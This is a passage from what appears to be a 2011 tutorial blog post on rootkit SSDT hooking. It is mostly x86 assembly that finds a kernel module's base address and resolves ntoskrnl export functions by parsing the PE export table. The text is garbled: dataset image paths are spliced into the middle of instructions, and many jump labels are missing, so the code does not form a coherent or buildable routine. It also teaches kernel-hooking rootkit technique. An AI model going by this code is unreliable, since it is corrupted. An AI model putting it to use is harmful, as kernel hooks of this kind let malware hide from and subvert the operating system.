Saturday, October 8, 2011

Learn and study Rootkit Specials 6: kernel hook - SSDT hook(2)

  ; Example: ImageName: windows\system32\ndis.sys, So ModuleNameOffset is 0x11
  movzx  eax, word ptr [esi+1Ah] ;SYSTEM_MODULE_INFORMATION.ModuleNameOffset ,Point offset of name
  lea  eax, [eax+esi+1Ch]  ;SYSTEM_MODULE_INFORMATION.ImageName + SYSTEM_MODULE_INFORMATION.ModuleNameOffset
  push  eax   ;don't clude path name
  call  _stricmp
  pop  ecx             ;出栈
  pop  ecx
  test  eax, eax
  jnz  ContinueLoop
  mov  eax,[esi+8]    ;return SYSTEM_MODULE_INFORMATION.Base
  mov  [ebp-24h], eax  ;return save on [ebp-24h]
  push  edi
  call  ExFreePool
  jmp      ERRORRET
  inc  dword ptr [ebp-20h] ;Loop variable increas
  add  esi, 11Ch           ;Take next element of SYSTEM_MODULE_INFORMATION type
  mov  [ebp-2Ch], esi      ;Temporary save current SYSTEM_MODULE_INFORMATION element
  jmp  FORLOOP

SehFunction     proc near
    mov     esp, [ebp-18h]
    or      dword ptr [ebp-4], 0FFFFFFFFh
    mov     eax, [ebp-24h]
SehFunction    endp

; Equivalent to GetProcessAddress function, hModule point ntoskrnl.exe module, Find the PE export table,
; Find function address of pFunctionName.
; Operating principle: Traverse export table's AddressOfFunctions, Every take one function address, In line with it index of AddressOfFunctions中的
;Traverse whole AddressOfNames table and AddressOfNameOrdinals table, Find sequence number to matched function with AddressOfFunctions
;contrast function name and import paramter 2 whether identical, The same return current function address from AddressOfFunctions,
;Different continue find ...
GetProcessFromNtoskrnl proc hModule:dword,FunctionName:dword

  LOCAL AddressOfNameOrdinals:dword;Function name index talbe
  LOCAL AddressOfNames:dword       ;Function name address talbe
  LOCAL OutputTable:dword          ;Export table address
  LOCAL AddressOfFunctions:dword   ;Point export function address table point
  LOCAL pFunctionName:dword        ;function nameLOCAL i:dword                    ;loop variable
  LOCAL CurAddressOfNameOrdinals:dword ;Current function name serial number
  LOCAL CurAddressOfNames:dword        ;Current function address
  LOCAL nIndex:dword                   ;loop variable
  LOCAL myFoundOutFunctionName:dword   ;Function pointer is found from function address table
  LOCAL InputFunctionName:dword         ;input function name pointer, point paramter 2
  LOCAL SecondCharacterOfFunctionName:byte
  LOCAL FirstCharacterOfFunctionName:byte
  mov  edx, hModulemov  eax, [edx+3Ch]
  add  eax, edx           ; point PEHeader
  cmp  word ptr [edx],  5A4Dh ; 'MZ'
  jnz  Quit
  cmp  dword ptr [eax], 4550h ;'PE'
  jnz  Quit
  mov  eax, [eax+78h]
  add  eax, edx          ;point export
  mov  OutputTable, eax
  mov  edi, [eax+20h] ; IMAGE_EXPORT_DIRECTORY.AddressOfNames
  add  edi, edx
  mov  AddressOfNames, edi
  mov  esi, [eax+1Ch] ;IMAGE_EXPORT_DIRECTORY.AddressOfFunctions
  add  esi, edx
  mov  AddressOfFunctions, esi
  mov  ecx, [eax+24h] ;IMAGE_EXPORT_DIRECTORY.AddressOfNameOrdinals
  add  ecx, edx
  mov  AddressOfNameOrdinals, ecx
  and  nIndex, 0
  mov  edx, pFunctionName
  mov  ebx, nIndex
  cmp  ebx, [eax+14h] ;IMAGE_EXPORT_DIRECTORY.NumberOfFunctions
  jnb  Quit
  cmp  dword ptr [esi], 0 ;First function addresws judge whether null on AddressOfFunctions
  jz  NextAddressOfFunction          ;If null, Take next function on IMAGE_EXPORT_DIRECTORY.AddressOfFunctions table
  mov  CurAddressOfNames, edi
  mov  CurAddressOfNameOrdinals, ecx
  and  i, 0
  mov  ebx, i
  cmp  ebx, [eax+18h]   ;IMAGE_EXPORT_DIRECTORY.NumberOfNames
  jnb  OutOfRange
  mov  ebx, CurAddressOfNameOrdinalsmovzx  ebx, word ptr [ebx]
  cmp  ebx, nIndex      ;Judge index from AddressOfFunctions to get whether fit  AddressOfNameOrdinals get index
  jnz  NextAddressOfNameOrdinals
  mov  edx, CurAddressOfNames
  mov  edx, [edx]
  add  edx, hModule
  mov  pFunctionName, edx   ;Take function name
  test  edx, edx        ;Judge whether null
  jz  ContinueWork
  mov  myFoundOutFunctionName, edx    ;TS function name
  mov  edx, FunctionName
  mov  InputFunctionName, edx         ;TS imput function name
  mov  edx, InputFunctionName
  mov  dl, [edx]
  mov  FirstCharacterOfFunctionName, dl
  mov  ebx, myFoundOutFunctionName
  cmp  dl, [ebx]
  jnz  Different     ;disaffinity
  test dl, dl       ;Judge InputFunctionName whether null, if null, return first functionaddress table
  jz  RetCurrentFunctionAddress
  mov  edx, InputFunctionName  ;Contrast function name next character
  mov  dl, [edx+1]
  mov  SecondCharacterOfFunctionName, dl
  cmp  dl, [ebx+1]
  jnz  Different
  add  InputFunctionName, 2
  add  myFoundOutFunctionName, 2
  test  dl, dl
  jnz   CompareFunctionName
  xor  edx, edx           ;edx = 0,mean find correspond function
  jmp  GetFunctionAddress
  add  CurAddressOfNames, 4
  add  CurAddressOfNameOrdinals, 2
  inc  i
  jmp  StartFindFunctionFromAddressOfNames
  sbb  edx, edx
  sbb  edx, 0FFFFFFFFh  ;edx = 1,表示没有找到对应的函数,继续找
  test  edx, edx
  jnzContinueWork
  mov  esi, [esi]
  add  esi, hModule
  mov  eax, esi      ;return function address
  jmp  Founded
  xor  edx, edx
  mov  pFunctionName, edx
  add  esi, 4
  movAddressOfFunctions, esi
  inc  nIndex
  jmp  StartSearch
  xoreax, eax
GetProcessFromNtoskrnl endp

No comments:

Post a Comment